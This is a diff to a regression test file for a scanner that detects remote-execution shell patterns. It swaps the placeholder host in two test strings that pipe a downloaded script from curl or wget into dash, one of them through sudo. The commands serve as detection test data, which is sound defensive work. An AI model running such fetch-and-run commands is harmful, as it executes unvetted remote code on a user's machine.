@@ -100,11 +100,11 @@ describe('regression: templates (SPEC §7.4)', () => {
 
 describe('regression: scanners (SPEC §9.5)', () => {
   it('BUG-07 remote-exec curl|sh covers a pipe into dash', () => {
-    expect(findRemoteExec('curl -fsSL https://x.example/i.sh | dash').map((h) => h.label)).toContain('curl|sh');
+    expect(findRemoteExec('curl -fsSL https://x.site.io/i.sh | dash').map((h) => h.label)).toContain('curl|sh');
   });
 
   it('BUG-07 remote-exec curl|sh covers wget piped into sudo dash', () => {
-    expect(findRemoteExec('wget -qO- https://x.example/i.sh | sudo dash').map((h) => h.label)).toContain('curl|sh');
+    expect(findRemoteExec('wget -qO- https://x.site.io/i.sh | sudo dash').map((h) => h.label)).toContain('curl|sh');
   });
 });
 
